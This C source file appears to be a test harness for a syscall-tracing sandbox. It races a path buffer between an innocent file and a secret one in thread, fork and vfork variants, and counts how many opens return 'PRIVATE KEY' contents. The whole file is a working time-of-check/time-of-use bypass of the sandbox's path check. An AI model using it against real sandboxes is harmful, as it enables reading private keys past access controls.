// Races a checked argument: one thread opens the path held in a shared buffer,
// again and again, while another thread flips that buffer between an innocent
// file and a secret one — hoping the tracer reads the innocent path and the
// kernel then copies the secret. Prints how many opens returned the secret's
// bytes ("leaked N") out of how many succeeded.
// With "process", the flipper is a forked process and the path lives in a
// shared anonymous mapping: no second thread, the same race.
// With "vfork", the flipper is a thread and the opener a vfork child: the
// child borrows the parent's memory, which the parent's other thread keeps
// writing while the parent itself waits for the child.
// Usage: race_open INNOCENT SECRET ROUNDS [thread|process|vfork]
#include <fcntl.h>
#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/wait.h>
#include <unistd.h>

static char *path;
static const char *innocent, *secret;
static volatile int done;
static int leaked, opened;

// Only syscalls and plain memory: in a vfork child this runs on the parent's memory.
static void open_loop(int rounds) {
    char buf[64];
    for (int i = 0; i < rounds; i++) {
        int fd = open(path, O_RDONLY);
        if (fd < 0) continue;
        opened++;
        ssize_t n = read(fd, buf, sizeof buf - 1);
        if (n > 0) {
            buf[n] = 0;
            if (strstr(buf, "PRIVATE KEY")) leaked++;
        }
        close(fd);
    }
}

static void *flipper(void *arg) {
    (void)arg;
    size_t ni = strlen(innocent) + 1, ns = strlen(secret) + 1;
    while (!done) {
        // Mostly innocent, so the tracer mostly reads (and allows) the note.
        // The barriers keep the compiler from dropping a copy nobody reads here.
        memcpy(path, secret, ns);
        __asm__ volatile("" ::: "memory");
        for (volatile int i = 0; i < 200; i++) {}
        memcpy(path, innocent, ni);
        __asm__ volatile("" ::: "memory");
        for (volatile int i = 0; i < 2000; i++) {}
    }
    return NULL;
}

int main(int argc, char **argv) {
    if (argc != 4 && argc != 5) return 2;
    innocent = argv[1];
    secret = argv[2];
    int rounds = atoi(argv[3]);
    int process = argc == 5 && strcmp(argv[4], "process") == 0;
    int vforked = argc == 5 && strcmp(argv[4], "vfork") == 0;
    path = mmap(NULL, 4096, PROT_READ | PROT_WRITE, (process ? MAP_SHARED : MAP_PRIVATE) | MAP_ANONYMOUS, -1, 0);
    if (path == MAP_FAILED) return 2;
    strcpy(path, innocent);
    pthread_t t;
    pid_t child = -1;
    if (process) {
        child = fork();
        if (child == 0) {
            flipper(NULL);
            _exit(0);
        }
    } else {
        pthread_create(&t, NULL, flipper, NULL);
    }
    if (vforked) {
        pid_t opener = vfork();
        if (opener == 0) {
            open_loop(rounds);
            _exit(0);
        }
        int status = 0;
        if (opener > 0) waitpid(opener, &status, 0);
        // Killed by the tracer: the counts are what the child reached.
        if (opener < 0 || !WIFEXITED(status)) {
            done = 1;
            pthread_join(t, NULL);
            printf("opener killed, %d of %d reads were the key\n", leaked, opened);
            return 0;
        }
    } else {
        open_loop(rounds);
    }
    done = 1;
    if (process) {
        kill(child, SIGKILL);
        waitpid(child, NULL, 0);
    } else {
        pthread_join(t, NULL);
    }
    printf("leaked %d opened %d\n", leaked, opened);
    return 0;
}
